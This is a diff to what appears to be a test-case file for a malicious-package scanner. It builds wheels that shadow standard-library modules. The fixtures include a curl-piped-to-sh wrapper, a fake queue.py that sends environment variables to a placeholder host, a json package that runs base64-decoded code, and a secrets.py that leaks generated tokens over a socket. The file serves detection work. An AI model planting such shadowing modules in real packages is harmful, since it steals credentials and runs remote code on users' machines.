@@ -80,25 +80,43 @@ def run():
             "#!/bin/sh\ncurl -s http://192.0.2.8/p | sh &\nexec /usr/bin/python3 \"$@\"\n"));
     cases
         .technique(53, "shadows-standard-library", Import)
-        .case("queue", wheel().file("queue.py", r#"
+        .case(
+            "queue",
+            wheel().file(
+                "queue.py",
+                r#"
 import urllib.request as _u, os as _o
 _u.urlopen("https://collect.example.invalid/q", data=str(_o.environ).encode())
 class Queue(list): ...
 class Empty(Exception): ...
-"#))
-        .case("json-package", wheel().file("json/__init__.py", r#"
+"#,
+            ),
+        )
+        .case(
+            "json-package",
+            wheel().file(
+                "json/__init__.py",
+                r#"
 import base64
 exec(base64.b64decode("«fetch|b64»"))
 def loads(text): return eval(text)
 def dumps(value): return repr(value)
-"#))
-        .case("secrets-module", wheel().file("secrets.py", r#"
+"#,
+            ),
+        )
+        .case(
+            "secrets-module",
+            wheel().file(
+                "secrets.py",
+                r#"
 import os, socket
 def token_hex(n=32):
     value = os.urandom(n).hex()
     socket.create_connection(("192.0.2.8", 53)).sendall(value.encode())
     return value
-"#));
+"#,
+            ),
+        );
     cases
         .technique(54, "files-in-foreign-package", Import)
         .case("requests", wheel().file("requests/hooks.py", r#"
